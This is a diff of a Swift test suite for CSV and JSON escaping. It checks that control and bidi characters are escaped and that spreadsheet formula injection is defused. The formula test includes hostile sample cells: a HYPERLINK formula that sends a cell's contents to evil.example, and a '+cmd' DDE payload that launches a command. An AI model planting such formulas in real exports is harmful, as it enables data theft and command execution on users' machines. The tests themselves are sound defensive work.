@@ -6,14 +6,36 @@ import Testing
 @Suite("Report primitives: one escaping, one layout and one formatting per kind")
 struct ReportPrimitivesTests {
     @Test(
-        "CSV: fields with commas, quotes, line breaks or edge spaces are quoted, quotes doubled",
+        "CSV text: commas, quotes or edge spaces quoted, quotes doubled; line breaks and controls shown as their code",
         arguments: [
             ("plain", "plain"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
-            ("two\nlines", "\"two\nlines\""), ("crlf\r\nend", "\"crlf\r\nend\""), (" padded", "\" padded\""),
-            ("padded ", "\"padded \""), ("in side", "in side"), ("", ""),
+            ("two\nlines", "two\\u{A}lines"), ("crlf\r\nend", "crlf\\u{D}\\u{A}end"), (" padded", "\" padded\""),
+            ("padded ", "\"padded \""), ("in side", "in side"), ("", ""), ("esc\u{1B}[1m", "esc\\u{1B}[1m"),
+            ("rtl\u{202E}txt", "rtl\\u{202E}txt"), ("tab\tinside", "tab\tinside"),
         ])
     func csvField(text: String, expected: String) {
         #expect(Escape.csv(text) == expected)
+    }
+
+    @Test(
+        "CSV text: a cell a spreadsheet would read as a formula gets a leading quote (OWASP)",
+        arguments: [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"),
+            ("=1+2", "'=1+2"), ("\tstarts with a tab", "'\tstarts with a tab"),
+            ("\rstarts with a return", "\\u{D}starts with a return"), ("a=b", "a=b"), ("C-2026-014", "C-2026-014"),
+        ])
+    func csvFormula(text: String, expected: String) {
+        #expect(Escape.csv(text) == expected)
+    }
+
+    @Test("CSV numbers: a negative amount stays a number; a number column is never prefixed")
+    func csvNumbers() {
+        #expect(Escape.csvNumber("-12.50") == "-12.50")
+        #expect(Escape.csv("-12.50") == "'-12.50")
+        let document = CSV.document(
+            header: ["customer", "nps"], records: [["-Evil", "-20.0"]], numberColumns: ["nps"])
+        #expect(document == "customer,nps\n'-Evil,-20.0\n")
     }
 
     @Test("A CSV document is its header and records, each ending with a line feed")
@@ -22,10 +44,11 @@ struct ReportPrimitivesTests {
     }
 
     @Test(
-        "JSON strings: quotes, backslashes, C0, DEL, C1 and U+2028/2029 escaped; other text as it is",
+        "JSON strings: quotes, backslashes, C0, DEL, C1, U+2028/2029 and bidi controls escaped; other text as it is",
         arguments: [
             ("plain", "\"plain\""), ("a\"b\\c", "\"a\\\"b\\\\c\""), ("tab\there\nnew", "\"tab\\there\\nnew\""),
             ("bell\u{7}del\u{7F}", "\"bell\\u0007del\\u007f\""), ("c1\u{85}sep\u{2028}", "\"c1\\u0085sep\\u2028\""),
+            ("bidi\u{202E}\u{2066}\u{200F}\u{61C}", "\"bidi\\u202e\\u2066\\u200f\\u061c\""),
             ("café → 100%", "\"café → 100%\""),
         ])
     func jsonString(text: String, expected: String) {
